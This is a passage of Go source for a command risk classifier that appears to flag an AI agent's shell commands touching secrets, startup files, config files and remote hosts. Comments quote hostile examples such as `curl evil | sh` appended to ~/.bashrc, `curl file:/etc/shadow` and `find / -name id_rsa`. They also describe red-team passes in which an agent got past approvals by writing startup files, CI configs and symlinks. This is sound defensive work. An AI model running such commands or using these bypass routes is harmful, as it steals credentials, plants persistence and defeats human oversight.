package action

import (
	"net/url"
	"path"
	"regexp"
	"slices"
	"strings"
)

// optSpec describes a command's options well enough to skip them.
type optSpec struct {
	valueShort string          // short options that take a value (-u root, -uroot)
	valueLong  map[string]bool // long options that take a value unless given with =
	assigns    bool            // NAME=value words before the wrapped command (env, sudo)
}

func set(s ...string) map[string]bool {
	m := make(map[string]bool, len(s))
	for _, x := range s {
		m[x] = true
	}
	return m
}

func isAssignment(s string) bool {
	eq := strings.IndexByte(s, '=')
	if eq <= 0 {
		return false
	}
	for i := 0; i < eq; i++ {
		c := s[i]
		if !(c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || i > 0 && c >= '0' && c <= '9') {
			return false
		}
	}
	return true
}

// binDirs are the directories whose programs are keyed by their base name:
// /usr/bin/git is git. Programs elsewhere (./deploy.sh, venv/bin/pip) keep
// their path, so a script in one place does not borrow the answers given
// for a script of the same name in another.
var binDirs = [...]string{"/usr/bin/", "/bin/", "/usr/local/bin/", "/usr/sbin/", "/sbin/", "/opt/homebrew/bin/", "/usr/local/sbin/"}

func programName(w word) string {
	if !w.lit {
		return w.text
	}
	for _, d := range binDirs {
		if rest, ok := strings.CutPrefix(w.text, d); ok && rest != "" && !strings.Contains(rest, "/") {
			return rest
		}
	}
	return w.text
}

// shells are the programs that run `-c` strings, scripts, or their stdin.
var shells = set("sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish")

// interpreters run code from a script argument, -c/-e/-m, or stdin.
var interpreters = set("python", "python2", "python3", "node", "nodejs", "ruby", "perl", "php", "pwsh", "powershell", "osascript", "lua", "Rscript", "deno", "bun", "tsx", "ts-node")

// interpreterBase maps versioned names (python3.12) to their family.
func interpreterBase(prog string) string {
	if strings.HasPrefix(prog, "python") {
		rest := strings.TrimLeft(prog[len("python"):], "0123456789.")
		if rest == "" {
			return "python"
		}
	}
	return prog
}

// shellScriptArg returns the index in cmd of the string a shell runs with
// -c, or -1.
func shellScriptArg(cmd []word) int {
	withC := false
	for i := 1; i < len(cmd); i++ {
		t := cmd[i].text
		if !cmd[i].lit {
			return -1
		}
		if t == "--" {
			if withC && i+1 < len(cmd) {
				return i + 1
			}
			return -1
		}
		if len(t) > 1 && (t[0] == '-' || t[0] == '+') && !strings.HasPrefix(t, "--") {
			if t == "-o" || t == "+o" || t == "-O" || t == "+O" {
				i++
				continue
			}
			if strings.IndexByte(t, 'c') > 0 {
				withC = true
			}
			continue
		}
		if strings.HasPrefix(t, "--") {
			continue
		}
		if withC {
			return i
		}
		return -1
	}
	return -1
}

// readsScriptFromStdin reports whether a shell or interpreter would run
// code read from its standard input: no script, no -c/-e/-m.
func readsScriptFromStdin(prog string, args []word) bool {
	base := interpreterBase(prog)
	if !shells[base] && !interpreters[base] {
		return false
	}
	for i, a := range args {
		t := a.text
		if !a.lit {
			return false
		}
		switch {
		case t == "-" || t == "-s" || t == "--":
			return true
		case strings.HasPrefix(t, "-"):
			if t == "-m" && i+1 < len(args) && pythonModules[args[i+1].text] == moduleStdin {
				return true // python3 -m code: a REPL that runs its input
			}
			if t == "-c" || t == "-e" || t == "-m" || t == "--eval" || t == "-E" || t == "--command" {
				return false
			}
			continue
		}
		return false // a script file or arguments
	}
	return true
}

// interpreterValued are the options of shells and interpreters whose
// value is the next word, so that it is not taken for the script.
var interpreterValued = map[string][]string{
	"python": {"-W", "-X", "-Q"},
	"node":   {"--input-type", "--title", "--test-reporter", "--test-reporter-destination", "--test-name-pattern", "--test-concurrency", "--env-file", "--conditions", "-C", "--inspect-port", "--stack-size", "--max-old-space-size"},
	"ruby":   {"-I", "-C", "-E", "--encoding"},
	"perl":   {"-I"},
	"php":    {"-c", "-d", "-z"},
	"bash":   {"-o", "+o", "-O", "+O", "--rcfile", "--init-file"},
	"sh":     {"-o", "+o"}, "zsh": {"-o", "+o"}, "dash": {"-o", "+o"}, "ksh": {"-o", "+o"}, "fish": {"-C", "--init-command"},
}

// scriptOf returns the script file a shell or interpreter runs: its
// first operand, after the options and their values (python3 -W x
// /tmp/x.py, bash -o errexit /tmp/x.sh, python3 -m pdb /tmp/x.py); false
// when it runs no file (-c code, -m module, its input).
func scriptOf(prog string, args []word) (word, bool) {
	base := interpreterBase(prog)
	if prog == "nodejs" {
		base = "node"
	}
	if !shells[base] && !interpreters[base] && !interpreters[prog] {
		return word{}, false
	}
	valued := interpreterValued[base]
	for i := 0; i < len(args); i++ {
		a := args[i]
		t := a.text
		switch {
		case !a.lit:
			return word{}, false // opaque: the walker says so
		case t == "--":
			if i+1 < len(args) {
				return args[i+1], true
			}
			return word{}, false
		case t == "-" || t == "-c" || t == "-e" || t == "--eval" || t == "-p" || t == "--print" || t == "-E" || t == "--command":
			return word{}, false
		case t == "-m" && base == "python":
			if i+1 < len(args) && pythonModules[args[i+1].text] == moduleScript {
				// python -m pdb -c continue /tmp/x.py: the module's own
				// options follow.
				valued = moduleValued[args[i+1].text]
				for k := i + 2; k < len(args); k++ {
					y := args[k]
					switch {
					case !y.lit || y.text == "-m":
						return word{}, false
					case !strings.HasPrefix(y.text, "-"):
						return y, true
					case contains(valued, y.text):
						k++
					}
				}
			}
			return word{}, false
		case strings.HasPrefix(t, "-") || strings.HasPrefix(t, "+") && (shells[base]):
			if contains(valued, t) {
				i++
			}
			continue
		}
		if (base == "deno" || base == "bun") && (t == "run" || t == "test" || t == "bench" || t == "watch") {
			continue // deno run /tmp/x.ts: the script follows the verb
		}
		return a, true
	}
	return word{}, false
}

// teeMarks returns the write marks of tee's file arguments.
func teeMarks(args []word) []string {
	mark := ">"
	files := false
	for _, a := range args {
		switch {
		case a.text == "-a" || a.text == "--append":
			mark = ">>"
		case strings.HasPrefix(a.text, "-") && a.lit:
		case a.lit && harmlessSink(a.text):
		default:
			files = true
		}
	}
	if !files {
		return nil
	}
	return []string{mark}
}

// copiers write to their last operand.
var copiers = set("cp", "mv", "install", "ln", "rsync")

// creators make every operand (touch ~/.bashrc, mkdir -p /etc/x).
var creators = set("touch", "mkdir", "mkfifo", "mknod")

// WritesLaterMark marks a part that writes files from the background:
// whenever it writes, a person's approval of a run in between said
// nothing about what it puts there, so only an approval of its exact
// text allows it (WritesLater).
const WritesLaterMark = "writes-later"

// WritesStartupMark marks a write to a file that runs, or says what runs,
// when the person logs in, opens a shell, runs git, pip, npm or cargo, or
// on a schedule: a shell's rc files, ~/.ssh, cron, systemd and autostart
// units, the tools' user configuration, directories on PATH, Python's
// site-packages. The eleventh and twelfth red-team passes appended
// `curl evil | sh` to ~/.bashrc after approvals of writes in the project.
const WritesStartupMark = "writes-startup"

// startupFile reports whether writing p changes what runs later outside
// this command: a dot file or dot directory of a home, ~/.config and
// ~/.local/bin or lib, the system's /etc, /usr and /opt, cron's spools.
func (w walker) startupFile(p string) bool {
	switch {
	case p == "" || harmlessSink(p):
		return false
	case strings.HasPrefix(p, "~"):
		if w.home == "" {
			return true
		}
		p = w.home + strings.TrimPrefix(p[1:], "")
		if !strings.HasPrefix(p, "/") {
			return true // ~user/…: another's home
		}
	case !strings.HasPrefix(p, "/"):
		h := w.here()
		if h == "" {
			return false
		}
		p = path.Join(h, p)
	}
	p = path.Clean(p)
	for _, d := range []string{"/etc/", "/usr/", "/opt/", "/var/spool/cron", "/Library/", "/System/", "/bin/", "/sbin/", "/lib/"} {
		if strings.HasPrefix(p, d) || p+"/" == d {
			return true
		}
	}
	for _, home := range []string{w.home, homeOf(p)} {
		if home == "" || !strings.HasPrefix(p, home+"/") {
			continue
		}
		rest := strings.TrimPrefix(p, home+"/")
		if strings.HasPrefix(rest, ".") || strings.HasPrefix(rest, "Library/LaunchAgents") {
			return true // ~/.bashrc, ~/.ssh/…, ~/.config/…, ~/.local/bin/…
		}
	}
	return false
}

// operandsIf returns the literal operands of args when cond holds.
func operandsIf(cond bool, args []word) []string {
	if !cond {
		return nil
	}
	var out []string
	for _, a := range args {
		if a.lit && !strings.HasPrefix(a.text, "-") {
			out = append(out, a.text)
		}
	}
	return out
}

// anyOutside reports whether an operand lies outside the working
// directory and /tmp.
func (w walker) anyOutside(args []word) bool {
	for _, a := range args {
		if !strings.HasPrefix(a.text, "-") && (!a.lit || w.outside(a.text)) {
			return true
		}
	}
	return false
}

// remoteCopiers reach another machine through a host:path operand.
var remoteCopiers = set("scp", "rsync", "sftp")

// argMarks are the risk marks of what a command's operands name: a secret
// file (secret-file: `cat .env`, `head certs/server.key`), another machine
// (remote-host: `scp -r . me@host:/tmp/`) and, for commands that copy, a
// destination outside the workspace and /tmp (write-outside: `cp x
// /usr/local/bin/`). They put `cat .env` on another ladder level than
// `cat README.md`, so that approving one never vouches for the other.
func (w walker) argMarks(prog string, args []word) []string {
	var marks []string
	secret, remote := false, false
	last := ""
	for _, a := range args {
		if a.lit && strings.HasPrefix(a.text, "-") && !secret {
			// A path stuck to an option is read too: curl -H@~/.netrc,
			// git commit -F.env, --pathspec-from-file=.env.
			for _, v := range optionValues(a.text) {
				if w.secretAt(v) {
					secret = true
					marks = append(marks, "secret-file")
					break
				}
			}
		}
		if !a.lit || strings.HasPrefix(a.text, "-") {
			continue
		}
		t := a.text
		last = t
		if prog == "dd" {
			// dd if=FILE reads FILE (of= is an output, outputs.go).
			if v, ok := strings.CutPrefix(t, "if="); ok {
				t = v
			}
		}
		// A read of limend's own database, where this limend keeps it
		// (a change of it is a control instead, which changes no key).
		if !secret && (w.secretAt(t) || !treeWriters[prog] && w.holdsRecords(t, readsTrees(prog, args))) {
			secret = true
			marks = append(marks, "secret-file")
		}
		if !remote && remoteCopiers[prog] && isRemoteTarget(t) {
			remote = true
			marks = append(marks, "remote-host")
		}
		if area := w.homeArea(a); area != "" && !secret && !slices.Contains(marks, area) {
			marks = append(marks, area)
		}
		if deleters[prog] && removesSource(t) && !slices.Contains(marks, RemovesSourceMark) {
			marks = append(marks, RemovesSourceMark)
		}
	}
	if copiers[prog] && last != "" && !isRemoteTarget(last) && w.outside(last) || (creators[prog] || prog == "tee") && w.anyOutside(args) {
		marks = append(marks, "write-outside")
	}
	if !slices.Contains(marks, "write-outside") {
		// An option's output outside the project (curl -o ~/.bashrc,
		// sort -o ../Makefile) is a write outside as a copy is.
		for _, p := range w.commandWrites(prog, args) {
			if w.outside(p) {
				marks = append(marks, "write-outside")
				break
			}
		}
	}
	for _, p := range append(w.commandWrites(prog, args), operandsIf(prog == "tee" || creators[prog], args)...) {
		if w.startupFile(p) {
			marks = append(marks, WritesStartupMark)
			break
		}
	}
	if ws := w.commandWrites(prog, args); len(ws) > 0 && !slices.Contains(marks, "write-outside") && !copiers[prog] && prog != "tee" {
		// sed -n 'w script/lint', find -fprintf: a write, which approving
		// the program's reads says nothing about.
		marks = append(marks, "writes")
	}
	if !slices.Contains(marks, "runs-config") {
		// sed -n 'w .pytest.ini', find -fprintf Makefile, git log
		// --output=package.json: an option's output is a write as a
		// redirection's is (the fourteenth pass).
		for _, p := range w.commandWrites(prog, args) {
			if w.writesConfig(p) {
				marks = append(marks, "runs-config")
				break
			}
		}
	}
	if copiers[prog] && last != "" && w.writesConfig(last) || removers[prog] && w.anyRunsConfig(args) || prog == "tee" && w.anyRunsConfig(args) {
		// .git/config, .git/hooks/*, .gitattributes, node_modules/.bin/*,
		// .npmrc, .curlrc, a shell's rc file: files whose content an
		// ordinary, approved command then runs.
		marks = append(marks, "runs-config")
	}
	if prog == "mv" && last != "" && !isRemoteTarget(last) && w.leavesWorkspace(last) && len(args) > 1 {
		marks = append(marks, "moves-out") // mv src /tmp/gone takes the project's files away
	}
	if prog == "go" && goToolFlags(args) {
		// -ldflags=-o=~/.bashrc, -gcflags=-cpuprofile=…, -ldflags=-extar=X,
		// -gccgoflags=-fplugin=…: the compiler's and linker's own options
		// write files and run programs (the thirteenth pass).
		marks = append(marks, "tool-flags")
	}
	if (prog == "ln" || prog == "cp") && w.linksOutside(prog, args) {
		// A link in the project to a tree outside it makes every later
		// `cd link`, `git -C link`, `python3 link/x.py` look like work
		// in the project (the eleventh red-team pass).
		marks = append(marks, "links-outside")
	}
	if (prog == "cp" || prog == "install") && len(args) > 1 {
		for _, a := range args[:len(args)-1] {
			if a.text == "/dev/null" {
				marks = append(marks, "truncates") // cp /dev/null src/app.js empties it
				break
			}
		}
	}
	if networkClients[prog] {
		// A URL of another scheme than http(s) reaches more than a web
		// API: file:// reads a file, gopher:// and dict:// speak raw bytes
		// to any local service; curl takes them with one slash or none
		// too (file:/etc/shadow, FILE:/x, gopher:/127.0.0.1:6379/_…).
		for _, a := range args {
			if v, ok := strings.CutPrefix(strings.Replace(a.text, "--expand-", "--", 1), "--url="); ok {
				a.text = v // curl --url=file:/etc/shadow
			}
			scheme, rest, ok := otherScheme(a.text)
			if !a.lit || !ok || strings.HasPrefix(a.text, "-") || prog != "curl" && prog != "wget" && !strings.Contains(a.text, ":/") && !urlSchemes[scheme] {
				continue
			}
			marks = append(marks, "other-scheme")
			if scheme == "file" && !secret {
				if p, err := url.PathUnescape(fileURLPath(rest)); err == nil && (w.secretAt(p) || w.holdsSecrets(p) || w.holdsRecords(p, false)) {
					secret = true
					marks = append(marks, "secret-file")
				}
			}
			break
		}
	}
	if x, ok := scriptOf(prog, args); ok && !readsStdinPath(x.text) && x.text != "/dev/stdin" && w.leavesWorkspace(x.text) {
		// python3 /tmp/x.py, node ~/x.js, bash /tmp/x.sh: a script from
		// outside the project, which approving the project's own scripts
		// says nothing about.
		marks = append(marks, "runs-outside")
	}
	if prog == "socat" && !secret {
		// socat OPEN:/etc/shadow -, GOPEN:…, a bare path: a file it reads.
		for _, a := range args {
			kind, v, ok := strings.Cut(a.text, ":")
			if k := strings.ToUpper(kind); ok && (k == "OPEN" || k == "GOPEN" || k == "FILE" || k == "PIPE") || !ok && strings.HasPrefix(a.text, "/") {
				if !ok {
					v = a.text
				}
				v, _, _ = strings.Cut(v, ",")
				if a.lit && (w.secretAt(v) || w.holdsRecords(v, false)) {
					secret = true
					marks = append(marks, "secret-file")
					break
				}
			}
		}
	}
	if prog == "sed" || prog == "gsed" {
		// sed's r and R commands print a file into the output, -n or not.
		for _, sc := range parseSed(args).scripts {
			if !sc.lit {
				continue
			}
			reads, _ := sedScriptReads(sc.text)
			for _, f := range reads {
				if !secret && (w.secretAt(f) || w.holdsRecords(f, false)) {
					secret = true
					marks = append(marks, "secret-file")
				}
			}
		}
	}
	if prog == "curl" {
		marks = append(marks, w.curlMarks(args)...)
		marks = append(marks, curlSocketMarks(args)...)
		for _, f := range curlReadFiles(args) {
			// -w @FILE prints FILE, -d @FILE sends it: a read of it.
			if !secret && (w.secretAt(f) || w.holdsRecords(f, false)) {
				secret = true
				marks = append(marks, "secret-file")
			}
		}
	}
	if !secret && fetchesMetadata(prog, args) {
		// The metadata service serves the machine's cloud credentials
		// as a file server would: a read of a secret file.
		secret = true
		marks = append(marks, "secret-file")
	}
	if prog == "git" && len(args) > 0 {
		if sub := subcommand(prog, args); sub == "push" || sub == "pull" || sub == "fetch" {
			for _, a := range args {
				if v, ok := strings.CutPrefix(a.text, "--repo="); ok && v != "" && !isRemoteName(v) {
					marks = append(marks, "remote-url")
					break
				}
			}
			for i, a := range args {
				if i > 0 && subcommandPrograms["git"][args[i-1].text] {
					continue // the value of -C, --git-dir …
				}
				if t := a.text; a.lit && !strings.HasPrefix(t, "-") && (strings.Contains(t, "://") || strings.HasPrefix(t, "/") || strings.HasPrefix(t, "./") || strings.HasPrefix(t, "../") || isRemoteTarget(t) && strings.Contains(t, "@")) {
					marks = append(marks, "remote-url") // a remote named by URL, not one of the repository's
					break
				}
			}
		}
	}
	if removers[prog] && !slices.Contains(marks, "write-outside") {
		// mv takes its sources away and rm, shred, chmod … change what
		// they name: any operand outside the workspace is a write there
		// (mv ~ /dev/null), whatever approving rm of a build file said.
		for _, a := range args {
			if a.lit && !strings.HasPrefix(a.text, "-") && !isRemoteTarget(a.text) && w.outside(a.text) {
				marks = append(marks, "write-outside")
				break
			}
		}
	}
	if removers[prog] {
		// rm *, rm -f -- */*, mv * /tmp: every file of a directory, not
		// the build file an approval of rm was about; rm *.go or a list
		// of files are many files at once.
		operands, globs := 0, false
		for _, a := range args {
			if strings.HasPrefix(a.text, "-") && a.lit {
				continue
			}
			operands++
			if a.glob && strings.Trim(path.Base(a.text), "*.") == "" {
				marks = append(marks, "every-file")
				break
			}
			globs = globs || a.glob
		}
		if globs || operands > 3 && prog != "chmod" && prog != "chown" {
			marks = append(marks, "many-files")
		}
	}
	if prog == "git" {
		if sub := subcommand(prog, args); sub == "checkout" || sub == "restore" {
			if discardsChanges(sub, args) {
				marks = append(marks, "discards-changes")
			}
		}
	}
	if p, a := asModule(prog, args); (p == "pytest" || p == "py.test") && w.pytestOutside(a) {
		marks = append(marks, "tests-outside")
	}
	if destroys(prog, args) {
		marks = append(marks, "destroys")
	}
	if !secret && volumeMounters[prog] || prog == "docker-compose" || prog == "podman-compose" {
		if composeReads[composeVerb(append([]word{{text: prog, lit: true}}, args...))] {
			// docker compose config prints the file with .env filled in
			secret = true
			marks = append(marks, "secret-file")
		}
	}
	if w.readsTreeOutside(prog, args) {
		marks = append(marks, "reads-tree-outside")
	}
	if !secret && readsTrees(prog, args) {
		// A recursive read of a directory that holds credentials (grep -r
		// token ~/.config, tar czf x ~) reads them, though no operand
		// names one.
		for _, a := range args {
			if a.lit && !strings.HasPrefix(a.text, "-") && w.holdsSecrets(a.text) {
				marks = append(marks, "secret-file")
				break
			}
		}
	}
	return marks
}

// runsConfigNames are files whose content ordinary commands run or obey:
// git's and the shells' configuration and hooks, package managers' rc
// files, test bootstraps. An agent that copies over one of them makes an
// approved `git status` or `npm test` run what it wrote.
var runsConfigNames = set(".mcp.json", ".claude.json", ".pytest.ini", "CLAUDE.md", "AGENTS.md", "AGENTS.override.md", "GEMINI.md",
	// CI configurations run where the project's secrets are (the
	// thirteenth pass wrote them with the file tools).
	".gitlab-ci.yml", "bitbucket-pipelines.yml", "azure-pipelines.yml", "Jenkinsfile", ".travis.yml", "appveyor.yml", ".drone.yml",
	"cloudbuild.yaml", "buildspec.yml", ".circleci", "lint-staged.config.js", "lint-staged.config.mjs", ".lintstagedrc",
	".lintstagedrc.json", ".lintstagedrc.js", "go.mod", ".pnpmfile.cjs", "rust-toolchain", "rust-toolchain.toml", "go.work", ".tool-versions", ".mise.toml", "mise.toml", ".nvmrc",
	".node-version", ".python-version", ".ruby-version", "Cargo.toml", ".gitattributes", ".gitmodules", ".gitconfig", ".npmrc", ".yarnrc", ".yarnrc.yml", ".curlrc", ".wgetrc",
	".envrc", ".bashrc", ".bash_profile", ".bash_login", ".profile", ".zshrc", ".zshenv", ".zprofile", ".inputrc", ".pythonrc",
	"conftest.py", "sitecustomize.py", "usercustomize.py", ".pre-commit-config.yaml", "package.json", "Makefile", "makefile", "GNUmakefile",
	"pytest.ini", "tox.ini", "setup.py", "build.rs", ".editorconfig-hooks", "Justfile", "justfile", "Taskfile.yml",
	// pytest's addopts and plugins, pip's build backend (pyproject.toml,
	// setup.cfg); the agents' own instruction files, which steer the next
	// session; rc files the REPLs and debuggers run.
	"pyproject.toml", "setup.cfg", "bunfig.toml", "deno.json", "deno.jsonc", "Pipfile", "Gemfile",
	"CLAUDE.local.md", ".cursorrules", ".windsurfrules", ".clinerules", "copilot-instructions.md", ".aider.conf.yml", "CONVENTIONS.md",
	".pdbrc", ".irbrc", ".pryrc", ".gemrc", ".exrc", ".vimrc", "lefthook.yml", ".lefthook.yml", "lefthook.yaml")

// lockFiles are the files whose resolved URLs an approved install
// fetches: written over, they make `npm install` fetch what they say.
// Removing one only makes the install resolve afresh from the registry,
// so they count as runs-config for writes only (writesConfig).
var lockFiles = set("package-lock.json", "npm-shrinkwrap.json", "yarn.lock", "pnpm-lock.yaml", "bun.lockb", "bun.lock",
	"pipfile.lock", "poetry.lock", "uv.lock", "requirements.txt", "gemfile.lock", "cargo.lock", "composer.lock")

// writesConfig reports whether writing p changes what an ordinary
// command runs: runsConfig, or a lock file.
func (w walker) writesConfig(p string) bool {
	return w.runsConfig(p) || lockFiles[strings.ToLower(path.Base(p))]
}

// isRemoteName reports whether s reads as a remote's name (origin), not a
// URL or path.
func isRemoteName(s string) bool {
	return s != "" && !strings.ContainsAny(s, ":/@.")
}

// runsConfigPrefixes start the names of JavaScript tools' configuration
// files, which are code the tool runs (jest.config.js, vite.config.ts).
var runsConfigPrefixes = []string{"jest.config.", "vitest.config.", "webpack.config.", "eslint.config.", ".eslintrc", "vite.config.",
	"babel.config.", ".babelrc", ".mocharc", "rollup.config.", "next.config.", "nuxt.config.", "playwright.config.", "karma.conf.",
	"svelte.config.", "astro.config.", "tailwind.config.", "postcss.config.", "prettier.config.", ".prettierrc.", "metro.config.",
	"gulpfile.", "gruntfile.", "noxfile.py", "fabfile.py", "dodo.py"}

// runsConfigLower is runsConfigNames in lower case, as runsConfig looks.
var runsConfigLower = func() map[string]bool {
	m := make(map[string]bool, len(runsConfigNames))
	for n := range runsConfigNames {
		m[strings.ToLower(n)] = true
	}
	return m
}()

// runsConfigDirs hold files that are run or obeyed as they are.
var runsConfigDirs = []string{".git/", ".githooks/", ".claude/", ".gemini/", ".codex/", ".cursor/", ".clinerules/", ".windsurf/", ".github/instructions/", ".github/prompts/", ".bundle/", "node_modules/", ".husky/", "node_modules/.bin/", ".cargo/", ".vscode/", ".github/workflows/", ".devcontainer/",
	".config/systemd/", ".config/autostart/", ".config/git/", "launchagents/", ".direnv/"}

// runsConfig reports whether writing or removing p changes what an
// ordinary command runs.
func runsConfig(p string) bool {
	// Lower case: on a case-insensitive file system (macOS) .GIT/config is
	// .git/config. A directory named as such (mv src .cargo) counts.
	p = strings.ToLower(path.Clean(p)) + "/"
	base := path.Base(p)
	if runsConfigLower[base] {
		return true
	}
	for _, pre := range runsConfigPrefixes {
		if strings.HasPrefix(base, pre) {
			return true
		}
	}
	for _, d := range runsConfigDirs {
		if strings.HasPrefix(p, d) || strings.Contains(p, "/"+d) {
			return true
		}
	}
	return false
}

func (w walker) anyRunsConfig(args []word) bool {
	for _, a := range args {
		if !strings.HasPrefix(a.text, "-") && w.runsConfig(a.text) {
			return true
		}
	}
	return false
}

// removers change or take away every file they name, not only their last
// operand.
var removers = set("mv", "rm", "rmdir", "unlink", "shred", "truncate", "chmod", "chown", "chgrp", "chattr", "setfacl", "srm", "trash", "trash-put", "gio")

// recursiveReaders read whole directory trees: always, or with one of
// their recursive flags.
var recursiveReaders = map[string][]string{
	"rg": nil, "ag": nil, "ack": nil, "tar": nil, "bsdtar": nil, "7z": nil, "du": nil,
	"grep": {"-r", "-R", "--recursive", "--dereference-recursive", "-d"}, "egrep": {"-r", "-R", "--recursive"}, "fgrep": {"-r", "-R", "--recursive"},
	"zip": {"-r", "-R", "--recurse-paths"}, "cp": {"-r", "-R", "-a", "--recursive", "--archive"},
	"rsync": {"-r", "-a", "--recursive", "--archive"}, "scp": {"-r"}, "sftp": {"-r"},
	"base64": nil, "cat": nil, "strings": nil, "xxd": nil, "od": nil, "hexdump": nil,
	"diff": {"-r", "-R", "--recursive"}, // diff -r . ~ prints the files of both trees
}

// readsTrees reports whether prog with args reads whole directories: it
// always does, or a recursive flag is given (also inside a short-option
// cluster such as -rn).
func readsTrees(prog string, args []word) bool {
	flags, ok := recursiveReaders[prog]
	if !ok {
		return false
	}
	return flags == nil || anyFlag(args, flags)
}

// outsideTreeReaders read or list whole directory trees (always, or
// with one of their recursive flags); run on a directory outside the
// workspace they are marked reads-tree-outside, so that approving `grep
// -rn TODO src` or `ls -R` in the project vouches for nothing about `grep
// -rn SECRET ..`, `ls -R /root` or `find / -name id_rsa`.
var outsideTreeReaders = map[string][]string{
	"rg": nil, "ag": nil, "ack": nil, "tar": nil, "gtar": nil, "bsdtar": nil, "7z": nil, "du": nil, "find": nil, "fd": nil, "fdfind": nil,
	"tree": nil, "ncdu": nil, "zip": {"-r", "-R", "--recurse-paths"},
	"grep": {"-r", "-R", "--recursive", "--dereference-recursive", "-d"}, "egrep": {"-r", "-R", "--recursive"}, "fgrep": {"-r", "-R", "--recursive"},
	"ugrep": {"-r", "-R", "--recursive"}, "ls": {"-R", "--recursive"}, "cp": {"-r", "-R", "-a", "--recursive", "--archive"},
	"rsync": {"-r", "-a", "--recursive", "--archive"}, "diff": {"-r", "-R", "--recursive"},
}

// readsTreeOutside reports whether a tree reader reads a directory
// outside the workspace and /tmp.
func (w walker) readsTreeOutside(prog string, args []word) bool {
	flags, ok := outsideTreeReaders[prog]
	if !ok || flags != nil && !anyFlag(args, flags) {
		return false
	}
	for _, a := range args {
		if a.lit && !strings.HasPrefix(a.text, "-") && !isRemoteTarget(a.text) && w.outside(a.text) {
			return true
		}
	}
	return false
}

// goToolFlags reports whether go's arguments pass the compiler, linker or
// assembler options other than the few that only strip, inline or stamp
// (-s -w -X name=value, -N -l -m -B), or choose another compiler.
func goToolFlags(args []word) bool {
	for i := 0; i < len(args); i++ {
		a := args[i]
		name, value, ok := strings.Cut(a.text, "=")
		switch name {
		case "-ldflags", "--ldflags", "-gcflags", "--gcflags", "-asmflags", "--asmflags", "-gccgoflags", "--gccgoflags", "-compiler", "--compiler":
		default:
			continue
		}
		if !ok {
			if i+1 >= len(args) {
				return false
			}
			value = args[i+1].text
			i++
			ok = args[i].lit
		}
		if !a.lit || !ok || name == "-gccgoflags" || name == "--gccgoflags" {
			return true
		}
		if name == "-compiler" || name == "--compiler" {
			if value != "gc" {
				return true
			}
			continue
		}
		if !safeToolFlags(value) {
			return true
		}
	}
	return false
}

// safeToolFlags reports whether a -ldflags/-gcflags/-asmflags value holds
// only options that write and run nothing: a package pattern's
// "all=" prefix, -s, -w, -X name=value, -N, -l, -m, -B, -trimpath.
func safeToolFlags(v string) bool {
	if i := strings.Index(v, "="); i > 0 && !strings.HasPrefix(v, "-") {
		v = v[i+1:] // all=-N -l
	}
	fields := strings.Fields(strings.Trim(v, `'"`))
	for i := 0; i < len(fields); i++ {
		f := fields[i]
		switch {
		case f == "-s" || f == "-w" || f == "-N" || f == "-l" || f == "-B" || f == "-trimpath" || f == "-m" || strings.HasPrefix(f, "-m="):
		case f == "-X" && i+1 < len(fields) && !strings.HasPrefix(fields[i+1], "-"):
			i++
		case strings.HasPrefix(f, "-X=") || strings.HasPrefix(f, "-buildid="):
		default:
			return false
		}
	}
	return true
}

// linksOutside reports whether ln makes a symbolic link to a path outside
// the workspace (the target is read from the link's directory).
func (w walker) linksOutside(prog string, args []word) bool {
	ops := operandsOf(args, set("-t", "--target-directory", "-S", "--suffix"))
	if prog == "cp" {
		// cp -s links each source where it would copy it (the fifteenth
		// pass linked scripts/build.js to a file it wrote later).
		if !anyFlag(args, []string{"-s", "--symbolic-link"}) || len(ops) < 2 {
			return false
		}
		for _, o := range ops[:len(ops)-1] {
			if !o.lit || w.outside(o.text) || strings.HasPrefix(path.Clean(o.text), "/tmp") {
				return true
			}
		}
		return false
	}
	if !anyFlag(args, []string{"-s", "--symbolic"}) {
		return false
	}
	if len(ops) == 0 {
		return false
	}
	for _, o := range ops {
		if !o.lit {
			return true // a target only known when it runs
		}
	}
	t := ops[0].text
	if len(ops) > 1 && !strings.HasPrefix(t, "/") && !strings.HasPrefix(t, "~") {
		t = path.Join(path.Dir(ops[len(ops)-1].text), t)
	}
	if c := path.Clean(t); strings.HasPrefix(c, "/tmp/") || c == "/tmp" {
		return true // outside for a link too: scratch is no part of the project
	}
	return w.outside(t)
}

// anyFlag reports whether one of flags is given (also inside a
// short-option cluster such as -rn).
func anyFlag(args []word, flags []string) bool {
	for _, a := range args {
		t := a.text
		if !a.lit || !strings.HasPrefix(t, "-") {
			continue
		}
		for _, f := range flags {
			if t == f || strings.HasPrefix(t, f+"=") {
				return true
			}
			if len(f) == 2 && !strings.HasPrefix(t, "--") && strings.ContainsRune(t[1:], rune(f[1])) {
				return true
			}
		}
	}
	return false
}

// isRemoteTarget reports whether an operand has the [user@]host:path shape
// of scp and rsync (and is not a URL or a Windows drive).
func isRemoteTarget(t string) bool {
	host, _, ok := strings.Cut(t, ":")
	if !ok || host == "" || strings.Contains(host, "/") || len(host) == 1 || strings.Contains(t, "://") {
		return false
	}
	return true
}

// leavesWorkspace reports whether a path lies outside the working
// directory, /tmp included: what is moved there is gone from the project.
func (w walker) leavesWorkspace(t string) bool {
	if w.outside(t) {
		return true
	}
	if strings.HasPrefix(t, "/") {
		c := path.Clean(t)
		return w.cwd == "" || c != w.cwd && !strings.HasPrefix(c, w.cwd+"/")
	}
	return false
}

// RemovesSourceMark marks a deletion of what may be the project's own
// source: a file of code or a directory that is not a build's output.
// Approving rm -rf build or rm build/out.o says nothing about rm main.go
// (the sixteenth red-team pass).
const RemovesSourceMark = "removes-source"

// deleters are the programs that delete their operands.
var deleters = set("rm", "unlink", "shred", "srm", "trash", "trash-put", "rmdir")

// buildDirs are the directories that hold what a build or a tool made,
// not the project's source.
var buildDirs = set("build", "dist", "out", "target", "node_modules", ".cache", "tmp", "temp", "coverage", "__pycache__", ".pytest_cache",
	".mypy_cache", ".ruff_cache", ".next", ".nuxt", ".turbo", ".parcel-cache", "obj", "bin", ".gradle", ".tox", ".venv", "venv", "htmlcov",
	".terraform", "logs", ".eggs", "site", "_build", "public/build")

// artifactExts are the extensions of what builds and tools leave behind.
var artifactExts = set(".o", ".a", ".so", ".dylib", ".dll", ".exe", ".pyc", ".pyo", ".class", ".jar", ".whl", ".tmp", ".bak", ".swp",
	".orig", ".rej", ".log", ".out", ".pid", ".lock", ".cache", ".map", ".min.js", ".tsbuildinfo", ".egg-info", ".DS_Store", ".test", ".prof")

// removesSource reports whether deleting the path operand t may delete
// the project's source: it is not below a build directory, and not a
// build's or tool's leftover by its extension.
func removesSource(t string) bool {
